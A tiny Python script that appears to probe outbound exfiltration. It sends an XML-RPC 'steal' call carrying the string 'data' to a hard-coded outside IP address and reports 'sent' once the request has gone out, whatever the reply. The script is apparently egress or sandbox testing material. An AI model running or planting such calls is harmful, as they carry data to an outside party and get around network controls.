"""xmlrpc.client over HTTP; the answer is not XML, the request has gone by then."""
import xmlrpc.client

try:
    print(xmlrpc.client.ServerProxy("http://93.184.216.35:8080/").steal("data"))
except OSError:
    raise
except Exception as error:
    print("sent")
